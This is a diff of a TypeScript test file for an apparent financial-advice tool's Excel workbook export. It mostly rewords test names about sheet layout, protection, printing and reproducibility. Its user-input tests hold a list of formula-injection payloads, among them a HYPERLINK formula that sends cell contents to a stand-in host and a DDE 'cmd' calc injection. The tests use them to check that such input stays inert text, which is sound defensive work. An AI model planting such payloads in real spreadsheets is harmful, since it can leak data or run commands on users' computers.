@@ -1,4 +1,4 @@
-/** The file of a workbook, and what people typed in it. */
+/** The workbook file, and user input in it. */
 import { disclaimer, disclaimerPoints } from '@advice-builder/contract';
 import { isoDate } from '@advice-builder/kernel';
 import { describe, expect, it } from 'vitest';
@@ -8,8 +8,8 @@ import { columnUnder, workbookOfCase as of, recomputed, workbookJob, workbookOf 
 import { Spreadsheet } from './workbook-formulas.ts';
 import { sheetOf } from './xlsx-reader.ts';
 
-describe('the file', () => {
-  it('has its sheets in their order, each told by its first cell, headings frozen, nothing merged', () => {
+describe('the workbook file', () => {
+  it('has its sheets in order, each explained in its first cell, with frozen headings and no merged cells', () => {
     const { book } = of('single-2025-fees');
     expect(book.sheets.map(({ name }) => name)).toEqual([
       'Comparison',
@@ -35,7 +35,9 @@ describe('the file', () => {
         expect(cells.has(`A${row - 1}`) && cells.has(`A${row}`), `${name} is frozen under its headings`).toBe(true);
       }
     }
-    expect(String(sheetOf(book, '2 Sell the home').cells.get('A2')?.value)).toContain('do not follow a change');
+    expect(String(sheetOf(book, '2 Sell the home').cells.get('A2')?.value)).toContain(
+      'grey values, which do not change',
+    );
     expect(String(sheetOf(book, 'Inputs').cells.get('A2')?.value)).toContain('Change a yellow cell');
   });
 
@@ -53,7 +55,7 @@ describe('the file', () => {
     }
   });
 
-  it('prints headings again on each page, with the client, the reference and the page at the foot', () => {
+  it('repeats headings on each page, with client, reference and page number in the footer', () => {
     const { book } = of('single-2025-fees');
     const titles = book.names.filter(([name]) => name === '_xlnm.Print_Titles').map(([, cells]) => cells);
     expect(titles).toContain("'2 Sell the home'!$A:$A,'2 Sell the home'!$5:$5");
@@ -62,7 +64,7 @@ describe('the file', () => {
       expect(foot, name).toBe('&L&8Iris Orde, ORD-1, Estimates, not advice.&R&8&A, page &P of &N');
       expect(page).toMatchObject({ paperSize: '9', orientation: 'landscape' });
       const isOfMonths = /^(Current Situation|\d .*)$/.test(name);
-      // Months stand in two blocks of columns; all else on one width.
+      // The months are printed in two blocks of columns; the other sheets on one page width.
       expect([page.scale, page.fitToWidth, breaks]).toEqual(
         isOfMonths ? ['65', undefined, [13]] : [undefined, '1', []],
       );
@@ -70,7 +72,7 @@ describe('the file', () => {
     expect(book.author).toBe('Demonstration practice (Demo Adviser)');
   });
 
-  it('protects all but the yellow cells, which have names', () => {
+  it('protects all cells except the yellow ones, which have names', () => {
     const { book } = of('single-2025-fees');
     for (const { name, cells, isProtected } of book.sheets) {
       expect(isProtected, name).toBe(true);
@@ -82,7 +84,7 @@ describe('the file', () => {
     expect(named.get('Care_change_Scenario_3')).toBe("'Inputs'!$E$8");
   });
 
-  it('says on each sheet that fees and pension stand still, and flags a figure that was changed', () => {
+  it('says on each sheet that fees and pension do not change, and marks a changed figure', () => {
     const { book } = of('single-2025-fees');
     const [plain, changed] = [new Spreadsheet(book), new Spreadsheet(book, { 'Inputs!D5': 1 })];
     const places = [
@@ -92,16 +94,16 @@ describe('the file', () => {
       ['2 Sell the home', 'A4'],
     ] as const;
     for (const [sheet, cell] of places) {
-      expect(plain.at(sheet, cell)).toBe('As in the report. Fees and pension stand still when a yellow cell changes.');
+      expect(plain.at(sheet, cell)).toBe('As in the report. Fees and pension do not change with a yellow cell.');
       expect(changed.at(sheet, cell)).toMatch(/^Changed here: this no longer equals the report\. Fees and pension/);
     }
-    // The other scenarios are still as they were.
+    // The other scenarios are unchanged.
     expect(changed.at('1 Rent the home', 'A4')).toMatch(/^As in the report/);
     for (const typed of [{ 'Inputs!B6': 4.51 }, { 'Inputs!C7': -1 }, { 'Inputs!E8': 0.5 }])
       expect(new Spreadsheet(book, typed).at('Comparison', 'A3')).toMatch(/^Changed here/);
   });
 
-  it('has what was entered in the words of the report, and fees by the day', () => {
+  it('has the entries in the words of the report, and the fees per day', () => {
     const { book, input } = of('single-2025-fees');
     const entered = [...sheetOf(book, 'What was entered').cells.values()].map(({ value }) => value);
     for (const { label, value } of enteredFacts(input, input.current))
@@ -115,14 +117,14 @@ describe('the file', () => {
     expect(basic.map((row) => fees.get(`D${row}`)?.value)).toEqual(columns.map(({ asAt }) => isoDate(asAt) + 25_569));
   });
 
-  it('tells of modelling choices without where their reasons stand', () => {
+  it('names modelling choices without the path of their documentation', () => {
     const { book } = of('margaret');
     const laws = [...sheetOf(book, 'Working').cells.values()].map(({ value }) => String(value)).join('\n');
     expect(laws).toContain('Modelling choice');
     expect(laws).not.toMatch(/docs\/|\.md/);
   });
 
-  it('is parts of a workbook alone: no macro, no link, nothing outside', () => {
+  it('has only workbook parts: no macro, no link, nothing external', () => {
     const { book } = of('margaret');
     expect(
       book.parts.every((part) =>
@@ -134,7 +136,7 @@ describe('the file', () => {
     expect(book.created).toBe('2026-11-20T23:00:00.000Z');
   });
 
-  it('says what it was made from, and that it is no advice', () => {
+  it('states its sources, and that it is not advice', () => {
     const { book } = of('single-2025-fees');
     const about = [...sheetOf(book, 'About').cells.values()].map(({ value }) => value);
     for (const text of [
@@ -149,7 +151,7 @@ describe('the file', () => {
     expect(about.join('\n')).toContain('4 of Scenario 3');
   });
 
-  it('is the same file again to the byte, in whatever time zone, and another at another time', () => {
+  it('has the same bytes if made again in any time zone, and other bytes at another time', () => {
     const job = workbookJob('margaret');
     const { bytes } = of('margaret');
     const zone = process.env.TZ;
@@ -164,7 +166,7 @@ describe('the file', () => {
     expect(Buffer.from(workbookOf(later).bytes).equals(Buffer.from(bytes))).toBe(false);
   });
 
-  it('of one scenario compares nothing', () => {
+  it('compares nothing if it has one scenario', () => {
     const { book } = workbookOf(workbookJob('thomas', { scenarios: [2], preferred: 2 }));
     expect(book.sheets.map(({ name }) => name)).toEqual([
       'Comparison',
@@ -183,7 +185,7 @@ describe('the file', () => {
     );
   });
 
-  it('tells of a death that is laid over a scenario in a sheet of its own, to the cent, and is else what it was', () => {
+  it('shows an assumed death on a separate sheet, to the cent, and is otherwise unchanged', () => {
     const job = workbookJob('couple-one-in-care');
     const deaths = { 1: { clientIndex: 0, month: '2029-03-01', expensesPercent: 60 } } as const;
     const graphSetting = { ...job.record.graphSetting, deaths };
@@ -208,7 +210,7 @@ describe('the file', () => {
     expect(others).toEqual(of('couple-one-in-care').book.sheets.filter(({ name }) => name !== 'About'));
   });
 
-  it('over fifteen years has as many', () => {
+  it('has fifteen years if they were chosen', () => {
     const { book, input } = workbookOf(workbookJob('margaret', { extendYears: true }));
     expect(recomputed(book).faults).toEqual([]);
     expect([...columnUnder(book, '1 Sell the home', 'Closing').values()].at(-1)).toBeCloseTo(
@@ -217,7 +219,7 @@ describe('the file', () => {
     );
     const comparison = sheetOf(book, 'Comparison').cells;
     expect(comparison.get('A1')?.value).toContain('15 years, and after five');
-    // The five years of the report stand beneath, and are those of a workbook of five years.
+    // The report's five years are below, and equal those of a five-year workbook.
     const short = sheetOf(of('margaret').book, 'Comparison').cells;
     const worthIn = (cells: typeof comparison) =>
       [...cells].flatMap(([address, { value }]) =>
@@ -228,7 +230,7 @@ describe('the file', () => {
   });
 });
 
-describe('what people typed', () => {
+describe('user input', () => {
   const HOSTILE = [
     '=HYPERLINK("http://example.test/?"&A1,"Click")',
     "+1+cmd|' /C calc'!A0",
@@ -270,7 +272,7 @@ describe('what people typed', () => {
     };
   }
 
-  it('stays text, whatever it looks like, with only the signs taken out that no XML may hold', () => {
+  it('stays text, whatever it looks like, without the characters that XML does not allow', () => {
     const { book } = workbookOf(hostileJob());
     const inputs = sheetOf(book, 'Inputs').cells;
     const headings = ['B', 'C', 'D', 'E', 'F', 'G'].map((column) => inputs.get(`${column}4`));
@@ -288,7 +290,7 @@ describe('what people typed', () => {
     expect(recomputed(book).faults).toEqual([]);
   });
 
-  it('names the sheet of a scenario by its number and words, of 31 signs that Excel takes', () => {
+  it('names the sheet of a scenario by its number and its name, in 31 characters that Excel accepts', () => {
     const { book } = workbookOf(hostileJob());
     const names = book.sheets.map(({ name }) => name).slice(2, 2 + HOSTILE.length);
     expect(names).toEqual([
@@ -302,7 +304,7 @@ describe('what people typed', () => {
     expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(HOSTILE.length);
   });
 
-  it('is left out where it is for the adviser alone: notes, attorney, health', () => {
+  it('is left out if only the adviser may see it: notes, attorney, health', () => {
     const { book } = workbookOf(hostileJob());
     const all = book.sheets.flatMap(({ cells }) => [...cells.values()].map(({ value }) => String(value))).join('\n');
     expect(all).not.toMatch(/SECRET|health|dementia|attorney/i);
